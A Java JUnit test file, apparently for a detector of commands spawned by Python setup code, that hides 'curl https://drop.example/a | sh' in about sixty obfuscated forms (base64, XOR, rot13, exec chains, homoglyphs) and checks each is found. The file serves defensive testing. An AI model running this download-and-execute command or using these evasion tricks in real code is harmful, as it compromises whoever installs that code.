package dev.assay.core.code.evaluation;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/// One command, `curl https://drop.example/a | sh`, hidden in many ways: each time it is found.
class ObfuscationTest {
  private static final String COMMAND = "curl https://drop.example/a | sh";

  static Stream<Arguments> forms() {
    return Stream.of(
        form("plain", "import os\nos.system('§')"),
        form("split strings", "import os\nos.system('curl https://dr' + 'op.exam' + 'ple/a | sh')"),
        form("alias", "from os import system as s\nx = s\nx('§')"),
        form("getattr", "import os\ngetattr(os, 'sys' + 'tem')('§')"),
        form(
            "getattr chain",
            "getattr(getattr(__import__('importlib'), 'import_module')('os'), 'system')('§')"),
        form("__import__ reversed", "__import__('so'[::-1]).system('§')"),
        form("importlib", "import importlib as i\ni.import_module('o' + 's').system('§')"),
        form("globals", "import os\nglobals()['os'].system('§')"),
        form(
            "builtins in globals",
            "globals()['__builtins__'].__dict__['ex' + 'ec'](\"import os; os.system('§')\")"),
        form("vars", "import os\nvars(os)['system']('§')"),
        form("sys.modules", "import sys, os\nsys.modules['os'].system('§')"),
        form("__dict__", "import os\nos.__dict__['metsys'[::-1]]('§')"),
        form("attrgetter", "import os, operator\noperator.attrgetter('system')(os)('§')"),
        form("__getattribute__", "import os\nos.__getattribute__('system')('§')"),
        form("chr list", "import os\nos.system(''.join(chr(c) for c in %s))".formatted(codes(0))),
        form(
            "chr map with arithmetic",
            "import os\nos.system(''.join(map(lambda c: chr(c - 3), %s)))".formatted(codes(3))),
        form(
            "chr concatenation in a loop",
            "import os\nt = ''\nfor c in %s:\n  t += chr(c ^ 0)\nos.system(t)".formatted(codes(0))),
        form("bytes list", "import os\nos.system(bytes(%s).decode())".formatted(codes(0))),
        form(
            "hexadecimal",
            "import os\nos.system(bytes.fromhex('%s').decode())"
                .formatted(Decoders.hexadecimal(COMMAND))),
        form(
            "escapes",
            "import os\nos.system('%s')"
                .formatted(COMMAND.replace("c", "\\x63").replace("s", "\\u0073"))),
        form(
            "base64",
            "import os, base64\nos.system(base64.b64decode('%s').decode())"
                .formatted(base64(COMMAND))),
        form(
            "base64 without padding",
            "import os, base64 as b\nos.system(b.urlsafe_b64decode('%s').decode())"
                .formatted(base64(COMMAND).replace("=", ""))),
        form(
            "reversed base64",
            "import os, base64\nos.system(base64.b64decode('%s'[::-1]).decode())"
                .formatted(new StringBuilder(base64(COMMAND)).reverse())),
        form(
            "base32",
            "import os, base64\nos.system(base64.b32decode('MN2XE3BANB2HI4DTHIXS6ZDSN5YC4ZLYMFWXA3DFF5QSA7BAONUA====').decode())"),
        form(
            "base85",
            "import os, base64\nos.system(base64.b85decode(b'V|8+DAZT=SaC15@FJy9Wa4uzdVQp}1WiMeMd?0gZ').decode())"),
        form(
            "rot13",
            "import os, codecs\nos.system(codecs.decode('phey uggcf://qebc.rknzcyr/n | fu', 'rot13'))"),
        form(
            "substitution",
            "import os\nt = str.maketrans('0123', 'cusr')\nos.system('01"
                + "3l http2://d3op.example/a | 2h'.translate(t))"),
        form(
            "replacement",
            "import os\nos.system('curl_X_https://drop.example/a_X_|_X_sh'.replace('_X_', ' '))"),
        form(
            "XOR with a key",
            "import os\nk = b'key'\nd = bytes(%s)\nos.system(bytes(b ^ k[i %% len(k)] for i, b in enumerate(d)).decode())"
                .formatted(xored("key"))),
        form(
            "XOR with cycle",
            "import os\nfrom itertools import cycle\nos.system(''.join(chr(a ^ ord(b)) for a, b in zip(%s, cycle('key'))))"
                .formatted(xored("key"))),
        form(
            "big number",
            "import os\nn = %s\nos.system(n.to_bytes((n.bit_length() + 7) // 8, 'big').decode())"
                .formatted(new BigInteger(1, COMMAND.getBytes(StandardCharsets.US_ASCII)))),
        form("exec", "exec(\"import os\\nos.system('§')\")"),
        form(
            "exec of base64",
            "import base64\nexec(base64.b64decode('%s'))"
                .formatted(base64("import os\nos.system('§')".replace("§", COMMAND)))),
        form("nested exec", "exec('exec(\"import os\\\\nos.system(\\'§\\')\")')"),
        form("compile", "exec(compile(\"import os; os.system('§')\", '<string>', 'exec'))"),
        form(
            "FunctionType",
            "from types import FunctionType\nFunctionType(compile(\"import os; os.system('§')\", 'x', 'exec'), globals())()"),
        form("alias of exec", "e = exec\ne(\"import os; os.system('§')\")"),
        form(
            "exec in a dictionary",
            "d = {'a': exec, 'b': eval}\nd['a'](\"import os; os.system('§')\")"),
        form("eval", "eval(\"__import__('os').system('§')\")"),
        form("lambda", "(lambda f, a: f(a))(__import__('os').system, '§')"),
        form(
            "recursive lambdas",
            "_ = lambda __: __import__('base64').b64decode(__[::-1])\nexec((_)(b'%s'))"
                .formatted(
                    new StringBuilder(base64("import os\nos.system('" + COMMAND + "')"))
                        .reverse())),
        form("homoglyphs", "𝐞𝐱𝐞𝐜(\"import os; os.system('§')\")"),
        form(
            "class attributes",
            "import os\nclass A:\n  a = 'curl https://dr'\n  b = 'op.example/a | sh'\nos.system(A.a + A.b)"),
        form(
            "fields of an object",
            "import os\nclass A:\n  def __init__(self, n):\n    self.n = n\n  def run(self):\n    getattr(os, self.n)('§')\nA('system').run()"),
        form(
            "string builder",
            "import os\nclass B:\n  def __init__(self):\n    self.p = []\n  def add(self, s):\n    self.p.append(s)\n    return self\n  def text(self):\n    return ''.join(self.p)\nos.system(B().add('curl https://').add('drop.example').add('/a | sh').text())"),
        form(
            "format with attribute",
            "import os\nclass A:\n  h = 'drop.example'\nos.system('curl https://{a.h}/a | {0}'.format('sh', a=A))"),
        form(
            "percent",
            "import os\nos.system('curl https://%s.%s/a | %c%c' % ('drop', 'example', 115, 104))"),
        form(
            "f-string",
            "import os\nh = 'drop'\nos.system(f'curl https://{h}.{\"elpmaxe\"[::-1]}/a | sh')"),
        form(
            "list look-ups",
            "import os\nw = ['sh', 'curl', '|', 'https://drop.example/a']\nos.system(' '.join([w[1], w[3], w[2], w[0]]))"),
        form(
            "join and split",
            "import os\nos.system(' '.join('curl~https://drop.example/a~|~sh'.split('~')))"),
        form(
            "slices",
            "import os\nos.system('cXuXrXlX XhXtXtXpXsX:X/X/XdXrXoXpX.XeXxXaXmXpXlXeX/XaX X|X XsXh'[::2])"),
        form(
            "reduce",
            "import os\nfrom functools import reduce\nos.system(reduce(lambda a, b: a + b, ['curl https://', 'drop.example', '/a | sh']))"),
        form(
            "filter and zip",
            "import os\nos.system(''.join(a for a, b in zip('curl https://drop.example/a | sh', '1' * 99) if b))"),
        form(
            "pure function",
            "import os\ndef d(s, n):\n  r = ''\n  for c in s:\n    r += chr(ord(c) - n)\n  return r\nos.system(d('%s', 1))"
                .formatted(shifted(1).replace("\\", "\\\\").replace("'", "\\'"))),
        form(
            "while loop",
            "import os\ns = '%s'\ni, r = 0, ''\nwhile i < len(s):\n  r += s[len(s) - 1 - i]\n  i += 1\nos.system(r)"
                .formatted(new StringBuilder(COMMAND).reverse())),
        form("setattr", "import os\nclass A: pass\nsetattr(A, 'f', os.system)\nA.f('§')"),
        form("partial", "import os, functools\nfunctools.partial(os.system, '§')()"),
        form("decorator", "import os\n@lambda f: f()\ndef g():\n  os.system('§')"),
        form(
            "thread",
            "import os, threading\ndef g():\n  os.system('§')\nthreading.Thread(target=g).start()"),
        form(
            "thread class",
            "import os, threading\nclass T(threading.Thread):\n  def run(self):\n    os.system('§')\nT().start()"),
        form("Python 2", "import os\nexec 'os.system(\"§\")'\nprint 'done'"),
        form("star import", "from os import *\nsystem('§')"),
        form("walrus", "import os\nif (f := os.system):\n  f('§')"));
  }

  private static Arguments form(String name, String text) {
    return Arguments.of(name, text.replace("§", COMMAND));
  }

  private static List<Integer> codes(int shift) {
    return COMMAND.chars().mapToObj(c -> c + shift).toList();
  }

  private static List<Integer> xored(String key) {
    return Stream.iterate(0, i -> i < COMMAND.length(), i -> i + 1)
        .map(i -> COMMAND.charAt(i) ^ key.charAt(i % key.length()))
        .toList();
  }

  private static String shifted(int by) {
    StringBuilder text = new StringBuilder();
    COMMAND.chars().forEach(c -> text.append((char) (c + by)));
    return text.toString();
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("forms")
  void finds(String name, String text) {
    assertThat(ActLines.ofSetup(text))
        .as(name)
        .anySatisfy(
            line -> assertThat(line).startsWith("SPAWNS " + COMMAND + " ").endsWith(" INSTALL"));
  }

  @Test
  void theWordsAloneAreNoCommand() {
    assertThat(
            ActLines.ofSetup(
                """
                import os, base64
                COMMANDS = ['curl https://drop.example/a | sh']
                def system(text):
                    return text
                system(COMMANDS[0])
                print(base64.b64decode('aGVsbG8='))
                help = getattr(os, 'path')
                """))
        .isEmpty();
  }

  @Test
  void methodsThatOperatorsAndFunctionsStandFor() {
    assertThat(
            ActLines.ofModule(
                """
                two = __name__.__eq__.__call__(__name__) + True
                three = 'abc'.__len__.__call__().__class__('3')
                exec(''.join(chr(ord(c) - two - three) for c in 'nrutwy%tx@tx3x~xyjr-,ni,.'))
                """))
        .contains("SPAWNS id at module.py:3 IMPORT");
  }
}
